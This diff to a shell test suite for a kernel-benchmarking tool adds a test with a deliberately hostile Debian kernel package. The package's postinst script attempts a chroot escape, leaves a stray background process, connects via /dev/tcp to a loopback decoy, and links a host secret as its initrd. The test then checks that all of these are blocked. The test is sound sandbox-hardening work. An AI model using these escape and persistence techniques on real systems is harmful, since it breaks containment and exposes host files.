@@ -261,9 +261,61 @@ weird="$TMP/db"$'\n'"x.db"
 cp "$PRESSMARK_DB" "$weird"
 PRESSMARK_DB=$weird "$PM" suite run --reboot kexec --dry-run host.ini > dry 2> err
 is "$?" 2 "--reboot with a database path a systemd unit cannot carry: exit 2"
-like "$(cat err)" "--reboot: .*db\\x0ax\.db cannot be carried by a systemd unit \(accepted: a path in UTF-8 without control characters\)" \
+like "$(cat err)" "--reboot: .*db\\\\x0ax\.db cannot be carried by a systemd unit \(accepted: a path in UTF-8 without control characters\)" \
     "  saying which path and what is accepted"
 is "$(grep -c 'would' dry)" 0 "  nothing would be run or written"
+# A kernel package is not trusted: its maintainer scripts run as root, in
+# the guest's root, sandboxed. This one's postinst tries, each against a
+# decoy of this test's own: to break out of the root (chroot twice, then
+# climb), to leave a process running, to reach a server on the host's
+# loopback, and to make the image take a host file as its initrd through
+# a link. Nothing of it reaches the host, and the image is
+# refused, its cells failed with one line.
+evil_rel=9.9.9-pmevil
+port=$(free_port)
+python3 -c 'import socket, sys
+s = socket.socket(); s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(5)
+while True:
+    c, _ = s.accept(); open(sys.argv[2], "a").write("connected\n"); c.close()' "$port" "$TMP/evil-connections" &
+cleanup_add "stop_bg $!"
+echo "a host secret" > "$TMP/decoy-secret"
+mkdir -p evil/DEBIAN evil/boot
+printf 'Package: linux-image-%s\nVersion: 1\nArchitecture: amd64\nMaintainer: t <t@example.invalid>\nDescription: hostile\n' \
+    "$evil_rel" > evil/DEBIAN/control
+printf 'not a kernel' > "evil/boot/vmlinuz-$evil_rel"
+cat > evil/DEBIAN/postinst <<POST
+#!/bin/bash
+perl -e 'mkdir "/pm-esc"; chroot "/pm-esc" or exit 1; chdir ".." for 1 .. 64; chroot "." or exit 1;
+          open(my \$f, ">", "$TMP/pwned-escape") and print \$f "out\n"' 2>/dev/null
+setsid sleep 1007 < /dev/null > /dev/null 2>&1 &
+exec 3<>/dev/tcp/127.0.0.1/$port 2>/dev/null && echo hi >&3
+ln -sf "$TMP/decoy-secret" "/boot/initrd.img-$evil_rel"
+exit 0
+POST
+chmod 755 evil/DEBIAN/postinst
+dpkg-deb --build --root-owner-group evil "$TMP/evil.deb" > /dev/null
+cleanup_add pkill -f "^sleep 1007"
+cat > evil.ini <<INI
+[global]
+runs = 1
+kernel = $TMP/evil.deb
+vm-memory = 512M
+vm-timeout = 1m
+
+[c]
+workload = record
+command = true
+label = evil
+INI
+"$PM" suite run evil.ini > out 2> err
+is "$?" 1 "a hostile kernel package: the suite ends with exit 1"
+like "$(cat err)" "kernel $TMP/evil.deb: its VM image could not be made: .*boot/initrd.img-$evil_rel: a link \(refused: the guest's root is not trusted\)" \
+    "  its image is refused: the initrd is a link"
+is "$(q "select count(*) from run where label = 'evil' and status = 'failed'")" 1 "  its cell failed"
+ok "  the postinst did not break out of the root" test ! -e "$TMP/pwned-escape"
+is "$(pgrep -fc '^sleep 1007' || true)" 0 "  nothing it started outlived the install"
+is "$(cat "$TMP/evil-connections" 2>/dev/null | wc -l)" 0 "  it reached no server on the host"
+is "$(ls /var/cache/pressmark/vm | grep -c "$evil_rel")" 0 "  and no image of it is left in the cache"
 ok "at most 8 kernel images stay cached (the least recently used go)" \
     test "$(ls -d /var/cache/pressmark/vm/kernel-* | wc -l)" -le 8
 is "$(machine_state)" "$before" "machine as it was"
